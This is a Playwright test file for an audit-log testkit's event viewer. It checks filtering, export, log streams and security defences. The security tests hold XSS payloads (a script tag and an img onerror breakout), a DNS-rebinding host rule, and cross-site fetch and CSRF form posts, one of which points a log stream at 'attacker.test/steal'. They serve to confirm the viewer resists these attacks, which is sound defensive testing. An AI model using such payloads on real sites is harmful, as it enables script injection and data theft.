// The audit-testkit event viewer in headless Chromium (Debian's `chromium`, driven by
// playwright-core; no browser is downloaded). Starts the testkit binary from AUDIT_TESTKIT_BIN,
// seeds events through the HTTP API, then uses the pages as a person would.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtemp, mkdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { createServer } from 'node:http';
import { chromium } from 'playwright-core';
import { startTestkit } from '../testkit.mjs';

const ROOT = join(dirname(fileURLToPath(import.meta.url)), '..', '..');
const SCREENSHOT = process.env.VIEWER_SCREENSHOT || join(ROOT, 'target', 'viewer-screenshot.png');
const CHROMIUM = process.env.CHROMIUM_BIN || '/usr/bin/chromium';
const ORG = 'org_01KB0VIEWERDEMO0000000000';
const XSS_ORG = 'org_01KB0VIEWERXSS00000000000';
const XSS_SCRIPT = '<script>window.__xss=1</script>';
const XSS_ATTR = '"><img src=x onerror="window.__xss=1">';

const UA = 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36';
const SEED = [
  ['user.signed_in', '2026-02-02T09:12:03.120Z', ['user_01ADA', 'Ada Lovelace'], [], '203.0.113.7'],
  ['team.created', '2026-02-02T09:14:41.508Z', ['user_01ADA', 'Ada Lovelace'], [['team', 'team_01PLAT', 'Platform']], '203.0.113.7'],
  ['user.invited', '2026-02-02T09:15:10.002Z', ['user_01ADA', 'Ada Lovelace'], [['user', 'user_01GRACE', 'Grace Hopper'], ['team', 'team_01PLAT', 'Platform']], '203.0.113.7'],
  ['user.signed_in', '2026-02-02T10:02:55.731Z', ['user_01GRACE', 'Grace Hopper'], [], '198.51.100.23'],
  ['invoice.viewed', '2026-02-02T10:05:19.044Z', ['user_01GRACE', 'Grace Hopper'], [['invoice', 'inv_1001', 'INV-1001']], '198.51.100.23'],
  ['api_key.created', '2026-02-02T11:30:00.000Z', ['user_01ADA', 'Ada Lovelace'], [['api_key', 'key_01CI', 'CI deploy key']], '203.0.113.7'],
  ['team.deleted', '2026-02-02T12:45:12.317Z', ['user_01ADA', 'Ada Lovelace'], [['team', 'team_01PLAT', 'Platform']], '203.0.113.7'],
];

let kit;
let context;
let profile;

async function createEvent(org, event, key) {
  const res = await fetch(`${kit.url}/audit_logs/events`, {
    method: 'POST',
    headers: {
      authorization: 'Bearer sk_test_viewer',
      'content-type': 'application/json',
      ...(key ? { 'idempotency-key': key } : {}),
    },
    body: JSON.stringify({ organization_id: org, event }),
  });
  assert.equal(res.status, 200, await res.text());
}

async function portalLink(org, intent) {
  const res = await fetch(`${kit.url}/portal/generate_link`, {
    method: 'POST',
    headers: { authorization: 'Bearer sk_test_viewer', 'content-type': 'application/json' },
    body: JSON.stringify({ organization: org, intent }),
  });
  assert.equal(res.status, 201);
  return (await res.json()).link;
}

before(async () => {
  kit = await startTestkit(['--org', ORG, '--org', XSS_ORG, '--log-stream', 'Datadog:active']);
  let n = 0;
  for (const [action, at, [actorId, actorName], targets, ip] of SEED) {
    n += 1;
    await createEvent(
      ORG,
      {
        action,
        occurred_at: at,
        version: 1,
        actor: { id: actorId, type: 'user', name: actorName, metadata: { role: actorId === 'user_01ADA' ? 'owner' : 'member' } },
        targets: targets.map(([type, id, name]) => ({ id, type, name })),
        context: { location: ip, user_agent: UA },
        metadata: { request_id: `req_demo_${n}` },
      },
      `00000000-0000-4000-8000-00000000000${n}`,
    );
  }
  await createEvent(XSS_ORG, {
    action: 'note.created',
    occurred_at: '2026-02-02T13:00:00.000Z',
    actor: { id: 'user_x', type: 'user', name: XSS_ATTR },
    targets: [{ id: 'note_1', type: 'note', name: XSS_SCRIPT }],
    context: { location: '192.0.2.1', user_agent: XSS_ATTR },
    metadata: { body: XSS_SCRIPT, attr: XSS_ATTR },
  });
  profile = await mkdtemp(join(tmpdir(), 'viewer-chromium-'));
  context = await chromium.launchPersistentContext(profile, {
    executablePath: CHROMIUM,
    headless: true,
    acceptDownloads: true,
    viewport: { width: 1440, height: 720 },
    args: [
      '--no-sandbox',
      '--disable-gpu',
      '--disable-quic',
      '--no-first-run',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-sync',
      // A name another site controls, rebound to this machine (DNS rebinding).
      '--host-resolver-rules=MAP attacker.test 127.0.0.1',
    ],
  });
});

after(async () => {
  await context?.close();
  if (profile) await rm(profile, { recursive: true, force: true });
  await kit?.stop();
});

/** Clicks something that navigates, and waits until the new page has loaded. */
async function clickAndLoad(page, selector) {
  await Promise.all([page.waitForNavigation({ waitUntil: 'load' }), page.click(selector)]);
}

async function rowActions(page) {
  return page.locator('#events tbody tr td:nth-child(2)').allInnerTexts();
}

test('the Admin Portal link lists the events a test created, newest first', async () => {
  const page = await context.newPage();
  await page.goto(await portalLink(ORG, 'audit_logs'));
  assert.match(page.url(), /\/viewer\/events\?org=/);
  const expected = SEED.map((s) => s[0]).reverse();
  assert.deepEqual(await rowActions(page), expected);
  assert.equal(await page.locator('#count').innerText(), `Events 1–${SEED.length} of ${SEED.length}`);
  await page.getByText('Grace Hopper').first().waitFor();
  await mkdir(dirname(SCREENSHOT), { recursive: true });
  await page.screenshot({ path: SCREENSHOT, fullPage: true });
  await page.close();
});

test('a filter narrows the list', async () => {
  const page = await context.newPage();
  await page.goto(`${kit.url}/`);
  await clickAndLoad(page, `a[href="/viewer/events?org=${ORG}"] >> nth=0`);
  await page.fill('input[name="action"]', 'user.signed_in');
  await clickAndLoad(page, 'button[type="submit"].primary');
  assert.deepEqual(await rowActions(page), ['user.signed_in', 'user.signed_in']);
  await page.fill('input[name="actor_name"]', 'Grace Hopper');
  await clickAndLoad(page, 'button[type="submit"].primary');
  assert.deepEqual(await rowActions(page), ['user.signed_in']);
  assert.match(page.url(), /actor_name=Grace\+Hopper/);
  await page.fill('input[name="action"]', '');
  await page.fill('input[name="actor_name"]', '');
  await page.fill('input[name="target"]', 'team');
  await page.fill('input[name="to"]', '2026-02-02T10:00');
  await clickAndLoad(page, 'button[type="submit"].primary');
  assert.deepEqual(await rowActions(page), ['user.invited', 'team.created']);
  await page.close();
});

test('the detail view shows the stored JSON and the idempotency key', async () => {
  const page = await context.newPage();
  await page.goto(`${kit.url}/viewer/events?org=${ORG}&action=invoice.viewed`);
  await clickAndLoad(page, '#events tbody tr td:nth-child(2) a');
  const shown = JSON.parse(await page.locator('#event-json').innerText());
  const stored = (await kit.events(ORG)).find((e) => e.event.action === 'invoice.viewed');
  assert.deepEqual(shown, stored.event);
  assert.equal(await page.locator('#idempotency-key').innerText(), stored.idempotency_key);
  await page.close();
});

test('the export button downloads the CSV of the current filters', async () => {
  const page = await context.newPage();
  await page.goto(`${kit.url}/viewer/events?org=${ORG}&actor_id=user_01GRACE`);
  const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
  assert.match(download.suggestedFilename(), /^audit_log_export_.*\.csv$/);
  const csv = await readFile(await download.path(), 'utf8');
  const lines = csv.trim().split('\n');
  assert.match(lines[0], /^action,occurred_at,actor_id,actor_type,actor_name,/);
  assert.deepEqual(
    lines.slice(1).map((l) => l.split(',').slice(0, 3)),
    [
      ['user.signed_in', '2026-02-02T10:02:55.731Z', 'user_01GRACE'],
      ['invoice.viewed', '2026-02-02T10:05:19.044Z', 'user_01GRACE'],
    ],
  );
  assert.equal((await kit.events(ORG)).length, SEED.length, 'exporting changes no event');
  await page.close();
});

test('HTML and script text in an event render as text and never run', async () => {
  const page = await context.newPage();
  const errors = [];
  page.on('pageerror', (e) => errors.push(e));
  await page.goto(`${kit.url}/viewer/events?org=${XSS_ORG}`);
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.equal(await page.locator('img').count(), 0);
  assert.equal(await page.locator('script').count(), 0);
  const row = page.locator('#events tbody tr').first();
  assert.ok((await row.innerText()).includes(XSS_ATTR), 'the actor name is shown as text');
  assert.ok((await row.innerText()).includes(XSS_SCRIPT), 'the target name is shown as text');

  await clickAndLoad(page, '#events tbody tr td:nth-child(2) a');
  assert.equal(await page.evaluate(() => window.__xss), undefined);
  assert.equal(await page.locator('img').count(), 0);
  assert.equal(await page.locator('script').count(), 0);
  const shown = JSON.parse(await page.locator('#event-json').innerText());
  assert.equal(shown.metadata.body, XSS_SCRIPT);
  assert.equal(shown.metadata.attr, XSS_ATTR);
  await page.getByText(XSS_SCRIPT).first().waitFor({ state: 'visible' });
  assert.deepEqual(errors, []);
  await page.close();
});

test('the log_streams link shows the simulated stream', async () => {
  const page = await context.newPage();
  await page.goto(await portalLink(ORG, 'log_streams'));
  assert.equal(await page.locator('#stream-type').innerText(), 'Datadog');
  assert.equal(await page.locator('#stream-state').innerText(), 'active');
  await page.getByText('Log streams are configured in WorkOS').waitFor();
  await page.close();
});

test('an unknown Admin Portal token is a clear 404 page', async () => {
  const page = await context.newPage();
  const res = await page.goto(`${kit.url}/portal?token=not-a-token&intent=audit_logs`);
  assert.equal(res.status(), 404);
  await page.getByText('Unknown or expired Admin Portal link').waitFor();
  await page.close();
});

test('the log-stream form streams the organization to a collector and shows the delivery', async () => {
  const received = [];
  let arrived;
  const firstArrival = new Promise((resolve) => { arrived = resolve; });
  const collector = createServer((req, res) => {
    let body = '';
    req.on('data', (c) => { body += c; });
    req.on('end', () => {
      received.push({ headers: req.headers, body: JSON.parse(body) });
      res.writeHead(200, { 'content-type': 'application/json' }).end('{}');
      arrived();
    });
  });
  await new Promise((resolve) => collector.listen(0, '127.0.0.1', resolve));
  const collectorUrl = `http://127.0.0.1:${collector.address().port}/siem`;
  const page = await context.newPage();
  try {
    await page.goto(`${kit.url}/viewer/log-streams?org=${XSS_ORG}`);
    await page.selectOption('select[name=type]', 'http');
    await page.fill('input[name=url]', collectorUrl);
    await page.fill('input[name=header]', 'X-Collector: collector-secret-1');
    // A same-origin form post from the browser is accepted (Origin and Sec-Fetch-Site say so).
    await clickAndLoad(page, '#stream-save');
    assert.equal(await page.locator('#stream-type').innerText(), 'GenericHttps');
    assert.equal(await page.locator('#stream-state').innerText(), 'active');
    await createEvent(XSS_ORG, {
      action: 'stream.checked',
      occurred_at: '2026-02-02T14:00:00.000Z',
      actor: { id: 'user_s', type: 'user' },
      targets: [],
      context: { location: '192.0.2.9' },
    });
    await firstArrival;
    assert.equal(received.length, 1);
    assert.equal(received[0].headers['x-collector'], 'collector-secret-1');
    assert.equal(received[0].body.action, 'stream.checked');
    assert.equal(received[0].body.organization_id, XSS_ORG);
    // The page shows the delivery once the testkit has recorded it.
    for (let i = 0; i < 50; i += 1) {
      await page.reload();
      if ((await page.locator('[data-outcome="delivered"]').count()) > 0) break;
      await page.waitForTimeout(100);
    }
    assert.equal(await page.locator('[data-outcome="delivered"]').count(), 1);
    assert.equal(await page.locator('#stream-delivered').innerText(), '1');
    assert.ok(!(await page.content()).includes('collector-secret-1'), 'header values are never shown');
    await clickAndLoad(page, '#stream-pause');
    assert.equal(await page.locator('#stream-state').innerText(), 'inactive');
  } finally {
    await page.close();
    await new Promise((resolve) => collector.close(resolve));
  }
});

test('a page of another site can neither read nor change the testkit', async () => {
  const port = new URL(kit.url).port;
  const attacker = createServer((req, res) => {
    res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>elsewhere</title>');
  });
  await new Promise((resolve) => attacker.listen(0, '127.0.0.1', resolve));
  const page = await context.newPage();
  try {
    // Rebinding: the attacker's name now points at the testkit's port.
    for (const path of ['/_testkit/events', '/', `/viewer/events?org=${ORG}`]) {
      const res = await page.goto(`http://attacker.test:${port}${path}`);
      assert.equal(res.status(), 403, path);
      assert.ok(!(await page.content()).includes('user.signed_in'), path);
    }
    // Cross-site requests a page may send without asking: a text/plain reset and a form post.
    await page.goto(`http://attacker.test:${attacker.address().port}/`);
    await page.evaluate(async (target) => {
      await fetch(`${target}/_testkit/reset`, { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: '{}' });
      await fetch(`${target}/_testkit/faults`, {
        method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' },
        body: JSON.stringify({ path: '/audit_logs/events', action: { type: 'respond', status: 200 } }),
      });
    }, kit.url);
    const posted = page.waitForNavigation({ waitUntil: 'load' });
    await page.evaluate(({ target, org }) => {
      const form = document.createElement('form');
      form.method = 'POST';
      form.action = `${target}/viewer/log-streams`;
      for (const [name, value] of Object.entries({ org, do: 'set', type: 'http', url: 'http://attacker.test:1/steal' })) {
        const input = document.createElement('input');
        input.name = name;
        input.value = value;
        form.appendChild(input);
      }
      document.body.appendChild(form);
      form.submit();
    }, { target: kit.url, org: ORG });
    await posted;
    assert.equal((await kit.events(ORG)).length, SEED.length, 'nothing was reset');
    const faults = await (await fetch(`${kit.url}/_testkit/faults`)).json();
    assert.deepEqual(faults.data, [], 'no fault was installed');
    const stream = await fetch(`${kit.url}/_testkit/streams/${ORG}`);
    assert.equal(stream.status, 404, 'no stream was set');
  } finally {
    await page.close();
    await new Promise((resolve) => attacker.close(resolve));
  }
});
